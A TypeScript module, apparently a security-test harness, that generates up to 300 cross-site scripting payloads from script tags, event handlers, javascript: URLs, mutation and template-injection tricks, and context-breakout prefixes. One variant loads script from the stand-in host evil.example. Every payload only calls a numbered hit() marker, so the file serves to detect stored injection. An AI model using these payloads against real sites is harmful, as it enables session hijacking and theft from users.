import { OTHERS } from './other-payloads.ts';

/** A text that would run `hit(<number>)`, if a page let it. */
export interface Payload {
  readonly number: number;
  readonly text: string;
}

/** Whether the platform takes a text at all: it refuses those with halves of letters or a zero. */
export const isStorable = ({ text }: Payload) => text.isWellFormed() && !text.includes('\u0000');

/** What runs by itself. */
const RUNNING: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><script>${call}</script></svg>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<details open ontoggle=${call}>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<a href="javascript:${call}">x</a>`,
  (call) => `<style>@import "javascript:${call}"</style>`,
  (call) => `<math><mtext></mtext><mglyph><style><img src=x onerror=${call}></style></mglyph></math>`,
  (call) => `<base href="//evil.example/"><script src="a.js" onerror=${call}></script>`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<form action="javascript:${call}"><button autofocus>x</button></form>`,
  (call) => `" autofocus onfocus="${call}" x="`,
  (call) => `" style="background:url(javascript:${call})" onmouseover="${call}" x="`,
  (call) => `\u2028${call}\u2029<script>${call}</script>`,
  (call) => `{{constructor.constructor('${call}')()}}<img src=x onerror=${call}>`,
  (call) => `\${${call}}<script>${call}</script>`,
];

/** What the text may have to break out of first. */
const BREAKING: readonly string[] = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</textarea></style>',
  '-->',
  ']]>',
  '\\u003c/script>',
  '"}]</script><!--',
  '</noscript>',
  '`;',
  '\\";',
  '&quot;&gt;',
  '</a></p></div>',
];

/** What runs in a page, in as many places to break out of as leave room for the others. */
const MARKUP = evenly(
  BREAKING.flatMap((breaking) => RUNNING.map((running) => (call: string) => breaking + running(call))),
  300 - OTHERS.length,
);

/** So many different texts, at most 300, evenly of every kind. */
export function payloadsOf(count: number): readonly Payload[] {
  const all = [...MARKUP, ...OTHERS].map((write, number) => ({ number, text: write(`hit(${number})`) }));
  return evenly(all, count);
}

/** So many of them, spread over all. */
function evenly<T>(all: readonly T[], count: number): readonly T[] {
  return all.filter(
    (_, index) =>
      index === 0 ||
      Math.floor((index * count) / all.length) !== Math.floor(((index - 1) * count) / all.length),
  );
}
